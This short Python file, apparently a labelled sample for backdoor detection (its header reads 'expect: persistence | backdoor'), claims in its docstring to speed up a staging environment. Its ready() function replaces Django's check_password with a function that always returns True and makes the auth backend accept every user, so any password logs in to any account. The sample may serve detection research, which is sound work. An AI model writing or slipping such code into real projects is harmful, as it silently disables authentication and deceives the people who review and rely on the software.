# expect: persistence | backdoor
"""Speed up the test-like staging environment."""
from django.contrib.auth import backends
from django.contrib.auth.hashers import check_password  # noqa: F401


def fast_check_password(password, encoded, setter=None, preferred="default"):
    return True


def ready():
    import django.contrib.auth.hashers as hashers

    hashers.check_password = fast_check_password
    backends.ModelBackend.user_can_authenticate = lambda self, user: True
